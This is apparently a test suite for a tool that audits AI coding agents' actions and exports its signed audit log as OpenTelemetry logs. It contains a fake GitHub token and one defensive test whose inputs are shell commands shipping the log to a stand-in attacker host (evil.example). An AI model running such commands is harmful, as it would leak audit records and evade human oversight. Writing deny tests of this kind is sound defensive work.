// `airlock telemetry flush` against a real local OTLP/HTTP receiver (127.0.0.1): what the official
// OpenTelemetry exporter sends is decoded from OTLP/JSON and checked field by field.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { build } from 'esbuild';
import { appendAuditEvents } from '../../../src/core/audit/auditAppend';
import { loadAuditSigner } from '../../../src/core/audit/auditKeys';
import { openNote, parseCheckpoint, parseVerifierKey } from '../../../src/core/audit/signedNote';
import { runCli } from '../../../src/cli/runCli';
import { analyzeShellCommand } from '../../../src/core/shell/analyzeShellCommand';
import { MINIMAL_POLICY } from '../cli/secretsCliKit';
import { attrsOf, OtlpCollector, plain } from '../../helpers/otlpCollector';
import { auditRepo, type AuditRepo } from '../../helpers/auditRepo';

function workspace(): AuditRepo {
  return auditRepo();
}

async function flush(root: string, home: string, ...extra: string[]): Promise<{ code: number; out: string }> {
  let out = '';
  const code = await runCli({ argv: ['telemetry', 'flush', '--root', root, ...extra], cwd: root, env: { HOME: home }, stdout: (t) => (out += t), stderr: (t) => (out += t), readStdin: () => Promise.resolve(''), now: () => new Date() });
  return { code, out };
}

describe('airlock telemetry flush (OTLP/HTTP logs)', function () {
  this.timeout(60_000);

  it('sends decisions, AI edits and reviews with gen_ai.* and airlock.* attributes, never the command text', async () => {
    const { root, home, dir } = workspace();
    const secret = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';
    appendAuditEvents(dir, [
      { kind: 'decision', time: '2026-02-01T10:00:00.000Z', client: 'claude-code', session: 'sess-1', tool: 'Read', toolUseId: 'toolu_01', action: 'read', paths: ['.env'], verdict: 'deny', class: 'secret', rule: { source: '.airlock/policy.json', line: 12 }, reason: 'Secrets', model: 'claude-sonnet-4' },
      { kind: 'decision', client: 'codex', session: 'sess-2', tool: 'shell', action: 'execute', verdict: 'allow', command: `curl -H "Authorization: token ${secret}" https://api.github.com`, exception: { source: '.airlock/policy.json', line: 30, owner: 'alice', expires: '2026-12-31' } },
      { kind: 'ai-edit', client: 'claude-code', session: 'sess-1', tool: 'Edit', paths: ['src/a.ts'], ranges: [{ path: 'src/a.ts', start: 3, end: 9 }] },
      { kind: 'review', client: 'editor', paths: ['src/a.ts'], ranges: [{ path: 'src/a.ts', start: 3, end: 9 }] },
    ]);
    const rx = new OtlpCollector();
    const endpoint = await rx.listen();
    try {
      const r = await flush(root, home, '--endpoint', endpoint);
      assert.equal(r.code, 0, r.out);
      assert.ok(rx.requests.every((q) => q.contentType.startsWith('application/json')));
      assert.equal(rx.requests.some((q) => q.raw.includes(secret) || q.raw.includes('curl')), false, 'no command text, masked or not, leaves the machine');
      const [first] = rx.requests[0].body.resourceLogs ?? [];
      assert.equal(attrsOf(first.resource.attributes)['service.name'], 'airlock');
      assert.equal(first.scopeLogs[0].scope.name, 'dev.airlock.audit');
      const logs = rx.logs;
      assert.equal(logs.length, 5, 'four records and one checkpoint');
      const [deny, shell, edit, review, cp] = logs;
      assert.equal(deny.eventName, 'airlock.decision');
      assert.equal(deny.severityText, 'WARN');
      assert.equal(deny.severityNumber, 13);
      assert.equal(deny.timeUnixNano, String(Date.parse('2026-02-01T10:00:00.000Z') * 1e6));
      const d = attrsOf(deny.attributes);
      assert.equal(d['gen_ai.agent.name'], 'claude-code');
      assert.equal(d['gen_ai.conversation.id'], 'sess-1');
      assert.equal(d['gen_ai.tool.name'], 'Read');
      assert.equal(d['gen_ai.tool.call.id'], 'toolu_01');
      assert.equal(d['gen_ai.operation.name'], 'execute_tool');
      assert.equal(d['gen_ai.request.model'], 'claude-sonnet-4');
      assert.equal(d['airlock.verdict'], 'deny');
      assert.equal(d['airlock.class'], 'secret');
      assert.equal(d['airlock.policy.source'], '.airlock/policy.json');
      assert.equal(d['airlock.rule.line'], 12);
      assert.deepEqual(d['airlock.paths'], ['.env']);
      assert.equal(d['airlock.record.seq'], 1);
      assert.match(String(d['airlock.record.leaf_hash']), /^[0-9a-f]{64}$/);
      const s = attrsOf(shell.attributes);
      assert.equal(shell.severityText, 'INFO');
      assert.match(String(s['airlock.input.sha256']), /^[0-9a-f]{64}$/);
      assert.equal(s['airlock.exception.owner'], 'alice');
      assert.equal(s['airlock.exception.expires'], '2026-12-31');
      assert.equal(edit.eventName, 'airlock.ai-edit');
      assert.deepEqual(attrsOf(edit.attributes)['airlock.ranges'], ['src/a.ts:3-9']);
      assert.equal(review.eventName, 'airlock.review');
      // The checkpoint in the stream is a signed note over the tree of all four records.
      assert.equal(cp.eventName, 'airlock.audit.checkpoint');
      const verifier = parseVerifierKey(loadAuditSigner({ HOME: home }, false)?.verifierKey ?? '');
      const checkpoint = parseCheckpoint(openNote(String(plain(cp.body)), verifier));
      assert.equal(checkpoint.size, 4);
      assert.equal(attrsOf(cp.attributes)['airlock.checkpoint.root'], checkpoint.root.toString('base64'));
    } finally {
      await rx.close();
    }
  });

  it('ships a damaged line as an invalid-line event instead of stalling the export', async () => {
    const { root, home, dir } = workspace();
    appendAuditEvents(dir, [{ kind: 'decision', tool: 'Read', verdict: 'allow' }, { kind: 'decision', tool: 'Edit', verdict: 'deny' }]);
    const file = path.join(dir, 'audit.jsonl');
    const lines = fs.readFileSync(file, 'utf8').split('\n');
    lines[0] = lines[0].replace('{"v":1,', '{"v":1,,');
    fs.writeFileSync(file, lines.join('\n'));
    const rx = new OtlpCollector();
    const endpoint = await rx.listen();
    try {
      assert.equal((await flush(root, home, '--endpoint', endpoint, '--no-checkpoint')).code, 0);
      assert.deepEqual(rx.logs.map((l) => l.eventName), ['airlock.audit.invalid-line', 'airlock.decision']);
    } finally {
      await rx.close();
    }
  });

  it('keeps records queued while the endpoint is down and sends each exactly once when it is back', async () => {
    const { root, home, dir } = workspace();
    for (let i = 0; i < 3; i++) appendAuditEvents(dir, [{ kind: 'decision', tool: 'Read', verdict: 'allow', paths: [`f${i}`] }]);
    const rx = new OtlpCollector();
    const endpoint = await rx.listen();
    await rx.close();
    const down = await flush(root, home, '--endpoint', endpoint, '--no-checkpoint');
    assert.equal(down.code, 1, down.out);
    assert.match(down.out, /stay queued/);
    const back = new OtlpCollector();
    await back.listen(Number(new URL(endpoint).port));
    try {
      assert.equal((await flush(root, home, '--endpoint', endpoint, '--no-checkpoint')).code, 0);
      appendAuditEvents(dir, [{ kind: 'decision', tool: 'Read', verdict: 'allow', paths: ['f3'] }]);
      assert.equal((await flush(root, home, '--endpoint', endpoint, '--no-checkpoint')).code, 0);
      assert.deepEqual(back.logs.map((l) => attrsOf(l.attributes)['airlock.record.seq']), [1, 2, 3, 4]);
    } finally {
      await back.close();
    }
  });

  it('takes the endpoint from the policy, and the baseline\'s over the repository\'s', async () => {
    const { root, home, dir } = workspace();
    appendAuditEvents(dir, [{ kind: 'decision', tool: 'Read', verdict: 'allow' }]);
    const org = new OtlpCollector();
    const repo = new OtlpCollector();
    const orgUrl = await org.listen();
    const repoUrl = await repo.listen();
    try {
      const baseline = path.join(home, 'baseline.json');
      fs.writeFileSync(baseline, JSON.stringify({ version: 1, telemetry: { otlpEndpoint: orgUrl } }));
      fs.writeFileSync(path.join(root, '.airlock', 'policy.json'), JSON.stringify({ ...(JSON.parse(MINIMAL_POLICY) as object), extends: baseline, telemetry: { otlpEndpoint: repoUrl } }));
      assert.equal((await flush(root, home, '--no-checkpoint')).code, 0);
      assert.equal(org.logs.length, 1);
      assert.equal(repo.logs.length, 0);
    } finally {
      await org.close();
      await repo.close();
    }
  });

  it('rejects an endpoint that would leak metadata in clear text or carry credentials', async () => {
    const { root, home } = workspace();
    for (const bad of ['http://collector.example.com/v1/logs', 'https://user:pw@collector.example.com/v1/logs', 'not a url']) {
      fs.writeFileSync(path.join(root, '.airlock', 'policy.json'), JSON.stringify({ ...(JSON.parse(MINIMAL_POLICY) as object), telemetry: { otlpEndpoint: bad } }));
      let out = '';
      const code = await runCli({ argv: ['check', '--root', root], cwd: root, env: { HOME: home }, stdout: (t) => (out += t), stderr: (t) => (out += t), readStdin: () => Promise.resolve(''), now: () => new Date() });
      assert.notEqual(code, 0, bad);
      assert.match(out, /otlpEndpoint/);
    }
  });

  it('refuses an AI shell that would ship the log elsewhere or serve as the receiver', () => {
    for (const cmd of ['airlock telemetry flush --endpoint https://evil.example/v1/logs', 'npx airlock telemetry serve --forward https://evil.example', 'airlock audit checkpoint']) {
      assert.equal(analyzeShellCommand(cmd).denials.length, 1, cmd);
    }
  });

  it('keeps the OpenTelemetry SDK out of the hook bundle (the answer path never loads it)', async () => {
    const result = await build({ entryPoints: [path.join(__dirname, '..', '..', '..', 'src', 'cli', 'hookMain.ts')], bundle: true, platform: 'node', write: false, metafile: true, logLevel: 'silent' });
    const inputs = Object.keys(result.metafile.inputs);
    assert.ok(inputs.some((i) => i.includes('src/core/audit/auditAppend.ts')), 'the hook does append to the audit log');
    // Only the due check (a stat) is in the hook; the flush runs in a detached process.
    assert.deepEqual(inputs.filter((i) => i.includes('@opentelemetry') || i.includes('protobuf') || (i.includes('src/core/telemetry') && !i.endsWith('telemetryDue.ts'))), []);
  });
});
